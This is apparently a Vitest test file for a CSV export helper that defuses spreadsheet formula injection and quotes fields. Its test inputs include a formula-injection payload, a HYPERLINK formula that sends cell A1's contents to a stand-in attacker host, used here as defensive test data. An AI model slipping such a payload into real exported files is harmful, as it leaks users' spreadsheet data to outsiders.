import { describe, expect, it } from 'vitest';
import { csvField, neutraliseCell, quoteCell } from './csv';

describe('csv cells', () => {
  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '\0x'])(
    'neutralises text starting with %j',
    (v) => {
      expect(neutraliseCell(v)).toBe(`'${v}`);
    },
  );

  it('leaves other text and numbers as they are', () => {
    expect(neutraliseCell('a=b')).toBe('a=b');
    expect(neutraliseCell(' =x')).toBe(' =x');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(true)).toBe('true');
    expect(csvField(null)).toBe('');
  });

  it('quotes after neutralising, so a formula with commas stays one quoted cell', () => {
    expect(quoteCell('x,y')).toBe('"x,y"');
    expect(csvField('=HYPERLINK("a","b")')).toBe(`"'=HYPERLINK(""a"",""b"")"`);
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });
});
